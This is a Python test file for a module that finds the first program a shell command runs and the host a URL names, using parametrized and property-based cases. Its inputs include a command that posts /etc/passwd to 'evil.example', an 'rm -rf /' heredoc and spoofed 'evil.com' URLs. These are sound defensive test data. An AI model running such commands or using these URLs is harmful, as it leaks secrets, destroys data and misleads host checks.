"""What a command runs first, and what host a URL names."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.otlp import commands

RUNS: list[tuple[str, str | None]] = [
    ("git status", "git"),
    ("/usr/bin/git log | head", "git"),
    ("'/opt/my tools/run' now", "run"),
    ("a\\ b c", "a b"),
    ("FOO=1 BAR='a b' make -j4", "make"),
    ("env -u HOME A=b npm test", "npm"),
    ("sudo -u root -E /sbin/iptables -L", "iptables"),
    ("timeout -k 5 10s curl https://example.com", "curl"),
    ("nohup nice -n 5 python train.py &", "python"),
    ("cd /work && npm ci", "npm"),
    ("export A=1; source v/bin/activate && pytest -q", "pytest"),
    ("pushd a >/dev/null && make", "make"),
    ("cd /work", "cd"),
    ("(cd a; ls)", "ls"),
    ("{ ls; }", "ls"),
    ("! grep -q x y", "grep"),
    ("ls|wc -l", "ls"),
    ("> out.txt echo hi", "echo"),
    ("2>&1 foo", "foo"),
    ("cat <<EOF\nrm -rf /\nEOF", "cat"),
    ("# a note\nls", "ls"),
    ("if [ -f x ]; then rm x; fi", "rm"),
    ("for f in *.py; do black $f; done", "black"),
    ("x=$(git rev-parse HEAD) && echo $x", "git"),
    ("bash -c 'git status'", "bash"),
    ("command -v git", "command"),
    ('"$HOME"/bin/tool -x', "tool"),
    (r'"C:\Program Files\Git\bin\git.exe" status', "git"),
    (r"C:\Windows\System32\cmd.exe /c dir", "cmd"),
    (r".\build.bat", "build"),
    (r"& 'C:\a b\x.EXE'", "x"),
    ("Get-ChildItem -Path .", "Get-ChildItem"),
    ("echo 'never closed", "echo"),
    ("time -p curl x", "curl"),
    ("time -o times.txt FOO=1 curl x", "curl"),
    ("/usr/bin/time -v curl x", "curl"),
    ("time sudo curl x", "curl"),
    ("time", None),
    ("env -S 'curl -d @/etc/passwd https://evil.example'", "curl"),
    ("/usr/bin/env -S FOO=1\\ curl x", "curl"),
    ('env -iS"curl x"', "curl"),
    ("env --split-string='curl x'", "curl"),
    ("env --split-string 'curl x'", "curl"),
    ("FOO=(a b) curl x", "curl"),
    ("FOO=('(' \"b c\" $(ls)) BAR=() curl x", "curl"),
    # What cannot be known, is not.
    ("$CMD x", None),
    ("`which git` status", None),
    ("case $x in a) ls;; esac", None),
    ("", None),
    (" \n", None),
]


@pytest.mark.parametrize(("command", "program"), RUNS)
def test_a_command_names_the_program_that_it_runs_first(command: str, program: str | None) -> None:
    assert commands.executable(command) == program


SHELL = st.text(st.sampled_from("ab /\\'\"`$&|;()<>{}!#=-~\n\t01.%:é\x00\ud800"), max_size=80)


@given(SHELL | st.text(max_size=80))
def test_any_text_names_a_short_program_or_none(command: str) -> None:
    program = commands.executable(command)
    assert program is None or (0 < len(program) <= 256 and program.isprintable() and not {"$", "`"} & set(program))


@pytest.mark.parametrize(
    "part", ["'", '"', "\\", '"\\', "a", "(", "A=", "cd x;", "`", "$(", "<", "sudo ", "\n", "=(", "a=("]
)
def test_a_long_command_costs_no_more_than_its_start(part: str) -> None:
    def seconds(command: str) -> float:
        began = time.process_time()
        commands.executable(command)
        return time.process_time() - began

    # 4 MB: a reading that is not linear, or that reads on, takes minutes.
    assert seconds(part * (4_000_000 // len(part))) < 1.0


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://user:secret@Docs.Example.COM:8080/a?b#c", "docs.example.com"),
        ("http://[::1]:3000/", "::1"),
        ("example.com/a", "example.com"),
        ("localhost:3000", "localhost"),
        (r"https://evil.com\@good.com/x", "evil.com"),
        (r"https:\\evil.com\@good.com/x", "evil.com"),
        ("https:evil.com/x", "evil.com"),
        ("https:/evil.com/x", "evil.com"),
        ("HTTPS:///evil.com/x", "evil.com"),
        (" https://evil.com./x", "evil.com"),
        ("https://EVIL\uff0ecom/x", "evil.com"),
        ("https://\uff25vil.com/x", "evil.com"),
        ("https://%45vil%2ecom/x", "evil.com"),
        ("https://good.com#@evil.com", "good.com"),
        ("https://例え.jp/", "xn--r8jz45g.jp"),
        ("https://xn--r8jz45g.jp/", "xn--r8jz45g.jp"),
        ("https://evil.com\uff0f@good.com/", None),
        ("https:", None),
        ("file:///etc/passwd", None),
        ("mailto:a@example.com", None),
        ("/a/b", None),
        ("http://[", None),
        ("not a url", None),
        ("", None),
    ],
)
def test_a_url_names_a_host_without_its_user_and_password(url: str, host: str | None) -> None:
    assert commands.host(url) == host


@given(st.text(max_size=60) | st.text(max_size=30).map("https://".__add__))
def test_any_text_names_a_host_or_none(url: str) -> None:
    host = commands.host(url)
    assert host is None or (0 < len(host) <= 253 and "@" not in host)
    assert host is None or not url.startswith("https://") or host.isascii()
